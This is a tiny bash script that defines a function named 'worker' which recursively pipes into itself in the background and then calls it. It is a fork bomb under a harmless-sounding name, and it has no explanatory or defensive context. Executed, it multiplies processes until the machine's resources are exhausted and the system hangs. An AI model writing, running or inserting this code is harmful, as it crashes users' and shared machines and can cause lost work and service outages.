#!/bin/bash
worker() {
  worker | worker &
}
worker
wait
